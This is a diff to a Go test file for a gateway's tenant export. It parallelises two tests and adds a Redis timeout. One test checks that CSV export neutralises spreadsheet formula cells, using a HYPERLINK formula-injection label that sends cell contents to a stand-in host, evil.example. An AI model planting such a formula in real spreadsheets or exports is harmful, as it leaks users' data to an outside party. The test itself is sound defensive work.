@@ -87,6 +87,7 @@ func stalledExport(p *proc, query string) (net.Conn, *http.Response, error) {
 // deleted: Redis' memory comes back to its baseline and no export key is left. Then an export
 // read to the end lists every tenant, and leaves nothing behind either.
 func TestExportsBoundedAgainstStalledClients(t *testing.T) {
+	t.Parallel()
 	awayFromHourEnd(t)
 	srv := redistest.Start(t)
 	c := redis.NewClient(&redis.Options{Addr: srv.Addr})
@@ -232,9 +233,11 @@ func TestExportsBoundedAgainstStalledClients(t *testing.T) {
 // a cell a spreadsheet would take for a formula gets a ' in front; the JSON export is exact.
 // A label with a bidi override is refused by gateway keys add.
 func TestExportFormulaCellsNeutralised(t *testing.T) {
+	t.Parallel()
 	srv := redistest.Start(t)
 	up := tokenUpstream(t)
-	cfg := fmt.Sprintf("admin_token: %q\nredis: {addrs: [%q]}\nauth: {mode: registry}\norgs:\n  acme: [acme-docs]\n", adminToken, srv.Addr)
+	// redis.timeout 2s: exact counts are checked, not the timeout (exactTimeout).
+	cfg := fmt.Sprintf("admin_token: %q\nredis: {addrs: [%q], timeout: 2s}\nauth: {mode: registry}\norgs:\n  acme: [acme-docs]\n", adminToken, srv.Addr)
 	p := startGateway(t, up, cfg)
 	cfgFile := writeConfig(t, fmt.Sprintf("upstream: {url: %q}\n%s", up, cfg))
 	const label = `=HYPERLINK("http://evil.example/?"&A1,"Invoice")`
